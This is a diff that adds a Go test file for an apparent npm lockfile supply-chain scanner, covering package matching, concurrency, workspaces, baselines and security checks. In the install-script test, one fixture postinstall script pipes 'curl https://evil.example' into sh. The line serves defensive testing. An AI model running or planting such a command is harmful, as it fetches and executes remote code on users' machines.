@@ -0,0 +1,478 @@
+package scnpm
+
+import (
+	"bytes"
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"scnpm/pkg/baseline"
+	"scnpm/pkg/ignore"
+	"scnpm/pkg/output"
+	"scnpm/pkg/types"
+)
+
+// packageLockJSON returns a lockfileVersion 3 package-lock.json installing packages, given as
+// "path": "version" pairs
+func packageLockJSON(packages ...string) string {
+	entries := []string{`"": {"name": "app"}`}
+	for i := 0; i+1 < len(packages); i += 2 {
+		entries = append(entries, `"`+packages[i]+`": {"version": "`+packages[i+1]+`"}`)
+	}
+	return `{"name": "app", "lockfileVersion": 3, "packages": {` + strings.Join(entries, ", ") + `}}`
+}
+
+func TestScan(t *testing.T) {
+	queries := []types.PackageQuery{
+		{Name: "left-pad", Severity: types.SeverityLow},
+		{Name: "event-stream", Version: "3.3.6", Severity: types.SeverityCritical},
+		{Name: "lodash", Version: "4.17.20"},
+	}
+	report, err := Scan(context.Background(), ScanRequest{
+		Lockfiles: []Lockfile{{
+			Name:   "package-lock.json",
+			Reader: strings.NewReader(packageLockJSON("node_modules/event-stream", "3.3.6", "node_modules/left-pad", "1.3.0", "node_modules/lodash", "4.17.21")),
+		}},
+		Queries: queries,
+		Options: Options{SortBySeverity: true},
+	})
+	if err != nil {
+		t.Fatalf("Scan() error = %v", err)
+	}
+
+	var got []string
+	for _, result := range report.Results {
+		got = append(got, result.Package.Name)
+		if result.Found && result.Instances[0].LineNumber == 0 {
+			t.Errorf("%s: no line number, want the line of its entry", result.Package.Name)
+		}
+	}
+	if strings.Join(got, ",") != "event-stream,left-pad,lodash" {
+		t.Errorf("Scan() results = %v, want one per query, most severe first", got)
+	}
+	if report.Totals.Risks != 2 || report.Totals.Safe != 1 || report.Totals.RisksBySeverity[types.SeverityCritical] != 1 {
+		t.Errorf("Scan() totals = %+v, want event-stream and left-pad risky and lodash safe", report.Totals)
+	}
+	if len(report.Inventory) != 3 || strings.Join(report.Lockfiles, ",") != "package-lock.json" || report.Queries != 3 {
+		t.Errorf("Scan() = %d packages, lockfiles %v, %d queries, want 3, package-lock.json, 3", len(report.Inventory), report.Lockfiles, report.Queries)
+	}
+	if report.Warnings != nil || report.ScannedAt.IsZero() {
+		t.Errorf("Scan() warnings %v, scanned at %v, want none and the time of the scan", report.Warnings, report.ScannedAt)
+	}
+	if len(queries[0].Sources) != 0 || queries[0].Severity != types.SeverityLow {
+		t.Errorf("Scan() modified the queries: %+v", queries[0])
+	}
+}
+
+func TestScanSeveralLockfiles(t *testing.T) {
+	report, err := Scan(context.Background(), ScanRequest{
+		Lockfiles: []Lockfile{
+			{Name: "a/package-lock.json", Reader: strings.NewReader(packageLockJSON("node_modules/event-stream", "3.3.6"))},
+			{Name: "b/package-lock.json", Reader: strings.NewReader(packageLockJSON("node_modules/event-stream", "3.3.6", "node_modules/debug", "4.4.2"))},
+			{Name: "c/package-lock.json", Reader: strings.NewReader(`{"lockfileVersion": 3, "packages": {"": {}}}`)},
+		},
+		Queries: []types.PackageQuery{{Name: "event-stream", Version: "3.3.6"}, {Name: "left-pad"}},
+	})
+	if err != nil {
+		t.Fatalf("Scan() error = %v", err)
+	}
+
+	if len(report.Results) != 2 || len(report.Results[0].Instances) != 2 || report.Results[1].Found {
+		t.Fatalf("Scan() results = %+v, want event-stream found in two lockfiles and left-pad in none", report.Results)
+	}
+	for i, want := range []string{"a/package-lock.json", "b/package-lock.json"} {
+		if got := report.Results[0].Instances[i].Lockfile; got != want {
+			t.Errorf("instance %d found in %q, want %q", i, got, want)
+		}
+	}
+	if len(report.Inventory) != 3 || report.Inventory[2].Lockfile == "" {
+		t.Errorf("Scan() inventory = %+v, want the 3 packages tagged with their lockfile", report.Inventory)
+	}
+	if len(report.Warnings) != 1 || !strings.Contains(report.Warnings[0], "'c/package-lock.json' contains no installed packages") {
+		t.Errorf("Scan() warnings = %q, want one about the empty lockfile", report.Warnings)
+	}
+}
+
+func TestScanConcurrency(t *testing.T) {
+	t.Setenv("SOURCE_DATE_EPOCH", "0")
+	paths, err := filepath.Glob("testdata/monorepo/*/*")
+	if err != nil || len(paths) != 7 {
+		t.Fatalf("fixtures = %v, %v, want 7 lockfiles", paths, err)
+	}
+	queries := []types.PackageQuery{
+		{Name: "event-stream", Version: "3.3.6", Severity: types.SeverityCritical},
+		{Name: "flatmap-stream"},
+		{Name: "lodash", Version: "<4.17.21", Severity: types.SeverityHigh},
+		{Name: "@ctrl/*"},
+		{Name: "debug", Version: "4.3.4"},
+		{Name: "chalk", Version: "5.6.1"},
+		{Name: "left-pad"},
+		{Name: "react"},
+	}
+
+	// scan renders a scan of every fixture as JSON, with the inventory, the order in which Emit
+	// saw the lockfiles and the progress reported
+	scan := func(concurrency int, emit bool) string {
+		var lockfiles []Lockfile
+		for _, path := range paths {
+			data, err := os.ReadFile(path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			lockfiles = append(lockfiles, Lockfile{Name: filepath.ToSlash(path), Reader: bytes.NewReader(data)})
+		}
+		options := Options{Concurrency: concurrency, SortBySeverity: true, Checks: Checks{Sources: true}}
+		var emitted, progressed []string
+		options.Progress = func(done, total, risks int) {
+			progressed = append(progressed, fmt.Sprintf("%d/%d:%d", done, total, risks))
+		}
+		if emit {
+			options.Emit = func(lockfile string, results []types.ScanResult, warnings []string) {
+				emitted = append(emitted, fmt.Sprintf("%s: %d results, warnings %q", lockfile, len(results), warnings))
+			}
+		}
+		report, err := Scan(context.Background(), ScanRequest{Lockfiles: lockfiles, Queries: queries, Options: options})
+		if err != nil {
+			t.Fatalf("Scan() at concurrency %d error = %v", concurrency, err)
+		}
+		var buf bytes.Buffer
+		if err := Write(&buf, "json", report, output.OutputConfig{ShowLockfiles: true}); err != nil {
+			t.Fatal(err)
+		}
+		inventory, _ := json.Marshal(report.Inventory)
+		return fmt.Sprintf("%s\n%s\n%v\n%s\nprogress %v", buf.String(), inventory, report.Lockfiles, strings.Join(emitted, "\n"), progressed)
+	}
+
+	want := scan(1, false)
+	for _, part := range []string{
+		`"lockfile": "testdata/monorepo/legacy/package-lock.json"`,
+		`"lockfile": "testdata/monorepo/docs/pnpm-lock.yaml"`,
+		"failed to parse 'testdata/monorepo/broken/package-lock.json'",
+		"'testdata/monorepo/empty/package-lock.json' contains no installed packages",
+		// Every lockfile counts, the broken one too, and the risks add up to the report's
+		`"risks": 7,`,
+		"progress [1/7:2 2/7:2 3/7:3 4/7:3 5/7:4 6/7:5 7/7:7]",
+	} {
+		if !strings.Contains(want, part) {
+			t.Errorf("Scan() of the fixtures lacks %s:\n%s", part, want)
+		}
+	}
+	// Completion order varies from run to run, so try a few times
+	for i := 0; i < 10; i++ {
+		if got := scan(8, false); got != want {
+			t.Fatalf("Scan() at concurrency 8 differs from concurrency 1:\n%s\nwant:\n%s", got, want)
+		}
+	}
+
+	want = scan(1, true)
+	if !strings.Contains(want, "testdata/monorepo/api/package-lock.json: 8 results") {
+		t.Errorf("Scan() with Emit = %s, want the api lockfile emitted with its results", want)
+	}
+	for i := 0; i < 10; i++ {
+		if got := scan(8, true); got != want {
+			t.Fatalf("Scan() with Emit at concurrency 8 differs from concurrency 1:\n%s\nwant:\n%s", got, want)
+		}
+	}
+}
+
+func TestScanConcurrencyWorkspaces(t *testing.T) {
+	t.Setenv("SOURCE_DATE_EPOCH", "0")
+	root := t.TempDir()
+	writeFile := func(path, content string) {
+		t.Helper()
+		path = filepath.Join(root, filepath.FromSlash(path))
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rootLock := packageLockJSON("node_modules/event-stream", "3.3.6")
+	writeFile("package.json", `{"name": "mono", "workspaces": ["packages/*"]}`)
+	writeFile("package-lock.json", rootLock)
+	// Every workspace but the last has its own lockfile, from the fixtures
+	for _, name := range []string{"api", "empty", "legacy", "web", "zeta"} {
+		writeFile("packages/"+name+"/package.json", `{"name": "`+name+`"}`)
+		if name == "zeta" {
+			continue
+		}
+		data, err := os.ReadFile(filepath.Join("testdata", "monorepo", name, "package-lock.json"))
+		if err != nil {
+			t.Fatal(err)
+		}
+		writeFile("packages/"+name+"/package-lock.json", string(data))
+	}
+	queries := []types.PackageQuery{
+		{Name: "event-stream", Version: "3.3.6", Severity: types.SeverityCritical},
+		{Name: "lodash", Version: "<4.17.21", Severity: types.SeverityHigh},
+		{Name: "@ctrl/*"},
+		{Name: "debug", Version: "4.3.4"},
+		{Name: "chalk", Version: "5.6.1"},
+	}
+
+	scan := func(concurrency int) string {
+		report, err := Scan(context.Background(), ScanRequest{
+			Lockfiles: []Lockfile{{Name: filepath.Join(root, "package-lock.json"), Reader: strings.NewReader(rootLock)}},
+			Queries:   queries,
+			Options:   Options{Dir: root, Workspaces: true, Concurrency: concurrency, SortBySeverity: true},
+		})
+		if err != nil {
+			t.Fatalf("Scan() at concurrency %d error = %v", concurrency, err)
+		}
+		var buf bytes.Buffer
+		if err := Write(&buf, "json", report, output.OutputConfig{ShowWorkspaces: true}); err != nil {
+			t.Fatal(err)
+		}
+		return strings.ReplaceAll(buf.String(), root, "<root>")
+	}
+
+	want := scan(1)
+	for _, part := range []string{
+		`"path": "packages/api/node_modules/`,
+		`"path": "packages/legacy/`,
+		`"path": "packages/web/node_modules/`,
+		`"workspace": "legacy"`,
+	} {
+		if !strings.Contains(want, part) {
+			t.Errorf("Scan() of the workspaces lacks %s:\n%s", part, want)
+		}
+	}
+	// Completion order varies from run to run, so try a few times
+	for i := 0; i < 10; i++ {
+		if got := scan(8); got != want {
+			t.Fatalf("Scan() of the workspaces at concurrency 8 differs from concurrency 1:\n%s\nwant:\n%s", got, want)
+		}
+	}
+}
+
+func TestScanEmit(t *testing.T) {
+	var lockfiles []string
+	report, err := Scan(context.Background(), ScanRequest{
+		Lockfiles: []Lockfile{
+			{Name: "a/package-lock.json", Reader: strings.NewReader(packageLockJSON("node_modules/event-stream", "3.3.6"))},
+			{Name: "b/package-lock.json", Reader: strings.NewReader(packageLockJSON("node_modules/event-stream", "3.3.6"))},
+		},
+		Queries: []types.PackageQuery{{Name: "event-stream", Version: "3.3.6"}, {Name: "left-pad"}},
+		Options: Options{
+			Ignore: []ignore.Rule{{Name: "event-stream", Reason: "vendored", Expires: "2000-01-01"}},
+			Emit: func(lockfile string, results []types.ScanResult, warnings []string) {
+				lockfiles = append(lockfiles, lockfile)
+				if len(results) != 2 || !results[0].Found || results[0].Instances[0].Lockfile != lockfile || results[1].Found {
+					t.Errorf("%s: results = %+v, want event-stream found in it and left-pad not", lockfile, results)
+				}
+				// The expired suppression is only reported with the first lockfile
+				if wantWarnings := len(lockfiles) == 1; (len(warnings) == 1) != wantWarnings {
+					t.Errorf("%s: warnings = %q, want the expired suppression only once", lockfile, warnings)
+				}
+			},
+		},
+	})
+	if err != nil {
+		t.Fatalf("Scan() error = %v", err)
+	}
+	if strings.Join(lockfiles, ",") != "a/package-lock.json,b/package-lock.json" {
+		t.Errorf("emitted lockfiles = %v, want each lockfile handed over once", lockfiles)
+	}
+	if report.Results != nil || report.Inventory != nil || report.Warnings != nil {
+		t.Errorf("Scan() = %+v, want nothing collected while emitting", report)
+	}
+}
+
+func TestScanErrors(t *testing.T) {
+	canceled, cancel := context.WithCancel(context.Background())
+	cancel()
+	manifest := `{"name": "app", "dependencies": {"react": "^18.2.0"}}`
+
+	tests := []struct {
+		name      string
+		ctx       context.Context
+		lockfiles []Lockfile
+		want      error
+	}{
+		{"no lockfiles", context.Background(), nil, nil},
+		{"invalid JSON", context.Background(), []Lockfile{{Name: "package-lock.json", Reader: strings.NewReader("{")}}, nil},
+		{"manifest", context.Background(), []Lockfile{{Name: "package.json", Reader: strings.NewReader(manifest)}}, ErrManifest},
+		{"canceled", canceled, []Lockfile{{Name: "package-lock.json", Reader: strings.NewReader(packageLockJSON())}}, context.Canceled},
+	}
+	for _, tt := range tests {
+		_, err := Scan(tt.ctx, ScanRequest{Lockfiles: tt.lockfiles, Queries: []types.PackageQuery{{Name: "react"}}})
+		if err == nil || tt.want != nil && !errors.Is(err, tt.want) {
+			t.Errorf("%s: Scan() error = %v, want %v", tt.name, err, tt.want)
+		}
+	}
+
+	report, err := Scan(context.Background(), ScanRequest{
+		Lockfiles: []Lockfile{{Name: "package.json", Reader: strings.NewReader(manifest)}},
+		Queries:   []types.PackageQuery{{Name: "react"}},
+		Options:   Options{Manifest: true},
+	})
+	if err != nil || !report.Results[0].Found {
+		t.Errorf("Scan() of a manifest with Options.Manifest = %v, want react found", err)
+	}
+}
+
+func TestScanCanceled(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	lookups := 0
+	report, err := Scan(ctx, ScanRequest{
+		Lockfiles: []Lockfile{
+			{Name: "a/package-lock.json", Reader: strings.NewReader(packageLockJSON("node_modules/event-stream", "3.3.6"))},
+			{Name: "b/package-lock.json", Reader: strings.NewReader(packageLockJSON("node_modules/event-stream", "3.3.6"))},
+			{Name: "c/package-lock.json", Reader: strings.NewReader(packageLockJSON("node_modules/event-stream", "3.3.6"))},
+		},
+		Queries: []types.PackageQuery{{Name: "event-stream", Version: "3.3.6"}},
+		Options: Options{
+			Baseline:    baseline.New([]baseline.Fingerprint{{Name: "gone", Version: "1.0.0", Path: "node_modules/gone"}}),
+			Concurrency: 1,
+			// The scan is canceled while the second lockfile is looked up
+			Lookup: func(ctx context.Context, packageLock *types.PackageLock) ([]types.PackageQuery, []string) {
+				if lookups++; lookups == 2 {
+					cancel()
+				}
+				return nil, nil
+			},
+		},
+	})
+	if !errors.Is(err, context.Canceled) || report == nil {
+		t.Fatalf("Scan() = %v, %v, want a partial report and context.Canceled", report, err)
+	}
+	if len(report.Results) != 1 || len(report.Results[0].Instances) != 1 || report.Results[0].Instances[0].Lockfile != "a/package-lock.json" {
+		t.Errorf("Scan() results = %+v, want event-stream found in the first lockfile only", report.Results)
+	}
+	if strings.Join(report.Lockfiles, ",") != "a/package-lock.json,b/package-lock.json" || report.Totals.Risks != 1 {
+		t.Errorf("Scan() lockfiles %v, totals %+v, want the two lockfiles it got to and 1 risk", report.Lockfiles, report.Totals)
+	}
+	if len(report.Warnings) != 0 {
+		t.Errorf("Scan() warnings = %q, want no stale baseline entries from a partial scan", report.Warnings)
+	}
+}
+
+func TestScanLookupAndBaseline(t *testing.T) {
+	known := baseline.New([]baseline.Fingerprint{
+		{Name: "debug", Version: "4.4.2", Path: "node_modules/debug", Lockfile: "package-lock.json"},
+		{Name: "gone", Version: "1.0.0", Path: "node_modules/gone", Lockfile: "package-lock.json"},
+	})
+	report, err := Scan(context.Background(), ScanRequest{
+		Lockfiles: []Lockfile{{Name: "package-lock.json", Reader: strings.NewReader(packageLockJSON("node_modules/debug", "4.4.2")), NoLines: true}},
+		Options: Options{
+			Baseline: known,
+			Lookup: func(ctx context.Context, packageLock *types.PackageLock) ([]types.PackageQuery, []string) {
+				if _, ok := packageLock.Packages["node_modules/debug"]; !ok {
+					t.Errorf("Lookup() got %+v, want the parsed lockfile", packageLock)
+				}
+				return []types.PackageQuery{{Name: "debug", Version: "4.4.2", Source: "registry"}}, []string{"registry unreachable for 1 package"}
+			},
+		},
+	})
+	if err != nil {
+		t.Fatalf("Scan() error = %v", err)
+	}
+
+	if len(report.Results) != 1 || !report.Results[0].Instances[0].Baseline || report.Results[0].Instances[0].LineNumber != 0 {
+		t.Fatalf("Scan() results = %+v, want the looked-up debug found, in the baseline, without a line", report.Results)
+	}
+	if report.Totals.Risks != 0 || report.Totals.Baseline != 1 || report.Queries != 1 {
+		t.Errorf("Scan() totals = %+v with %d queries, want debug counted as a baseline finding of 1 query", report.Totals, report.Queries)
+	}
+	if len(report.Warnings) != 2 || !strings.Contains(report.Warnings[1], "gone@1.0.0") {
+		t.Errorf("Scan() warnings = %q, want the lookup's and one about the stale baseline entry", report.Warnings)
+	}
+}
+
+func TestChecks(t *testing.T) {
+	packageLock := `{"lockfileVersion": 3, "packages": {"": {}, "node_modules/lodahs": {"version": "1.0.0", "hasInstallScript": true}}}`
+	scan := func(checks Checks) output.Totals {
+		report, err := Scan(context.Background(), ScanRequest{
+			Lockfiles: []Lockfile{{Name: "package-lock.json", Reader: strings.NewReader(packageLock)}},
+			Options:   Options{Checks: checks},
+		})
+		if err != nil {
+			t.Fatalf("Scan() error = %v", err)
+		}
+		return report.Totals
+	}
+
+	if checks := (Checks{}); checks.Enabled() || len(scan(checks).Checks) != 0 {
+		t.Error("the zero Checks ran a check")
+	}
+	checks := Checks{Typosquat: true, DetectScripts: true, RequireIntegrity: true}
+	if !checks.Enabled() {
+		t.Error("Checks.Enabled() = false with three checks on")
+	}
+	totals := scan(checks)
+	if len(totals.Checks) != 3 {
+		t.Errorf("Scan() check totals = %v, want findings of the typosquat, install script and integrity checks", totals.Checks)
+	}
+}
+
+func TestApplySeverity(t *testing.T) {
+	results := []types.ScanResult{
+		{Package: types.PackageQuery{Name: "low", Severity: types.SeverityLow}, Found: true},
+		{Package: types.PackageQuery{Name: "none"}, Found: true},
+		{Package: types.PackageQuery{Name: "critical", Severity: types.SeverityCritical}, Found: true},
+		{Package: types.PackageQuery{Name: "moderate", Severity: types.SeverityModerate}},
+	}
+	names := func(results []types.ScanResult) string {
+		var list []string
+		for _, result := range results {
+			list = append(list, result.Package.Name+"="+result.Package.Severity)
+		}
+		return strings.Join(list, ",")
+	}
+
+	tests := []struct {
+		options Options
+		want    string
+	}{
+		{Options{}, "low=low,none=,critical=critical,moderate=moderate"},
+		{Options{SortBySeverity: true}, "critical=critical,moderate=moderate,low=low,none="},
+		{Options{DefaultSeverity: types.SeverityHigh, SortBySeverity: true}, "critical=critical,none=high,moderate=moderate,low=low"},
+		{Options{MinSeverity: types.SeverityModerate, SortBySeverity: true}, "critical=critical,moderate=moderate"},
+		{Options{DefaultSeverity: types.SeverityHigh, MinSeverity: types.SeverityHigh}, "none=high,critical=critical"},
+	}
+
+	for _, tt := range tests {
+		if got := names(applySeverity(results, tt.options)); got != tt.want {
+			t.Errorf("applySeverity() with default %q, minimum %q, by severity %v = %s, want %s",
+				tt.options.DefaultSeverity, tt.options.MinSeverity, tt.options.SortBySeverity, got, tt.want)
+		}
+	}
+	if results[1].Package.Severity != "" {
+		t.Error("applySeverity() modified its argument")
+	}
+}
+
+func TestLoadInstalledScripts(t *testing.T) {
+	tmpDir := t.TempDir()
+	evilDir := filepath.Join(tmpDir, "node_modules", "evil")
+	if err := os.MkdirAll(evilDir, 0755); err != nil {
+		t.Fatalf("Failed to create test dir: %v", err)
+	}
+	manifest := `{"name": "evil", "scripts": {"postinstall": "curl https://evil.example | sh"}}`
+	if err := os.WriteFile(filepath.Join(evilDir, "package.json"), []byte(manifest), 0644); err != nil {
+		t.Fatalf("Failed to create test file: %v", err)
+	}
+
+	packageLock := &types.PackageLock{
+		LockfileVersion: 3,
+		Packages: map[string]types.Package{
+			"":                   {Name: "app"},
+			"node_modules/evil":  {Version: "1.0.0"},
+			"node_modules/react": {Version: "18.2.0"},
+		},
+	}
+
+	if got := loadInstalledScripts(tmpDir, packageLock); got != 1 {
+		t.Errorf("loadInstalledScripts() = %d, want 1", got)
+	}
+	if got := packageLock.Packages["node_modules/evil"].Scripts["postinstall"]; got != "curl https://evil.example | sh" {
+		t.Errorf("evil postinstall = %q, want the installed package.json script", got)
+	}
+}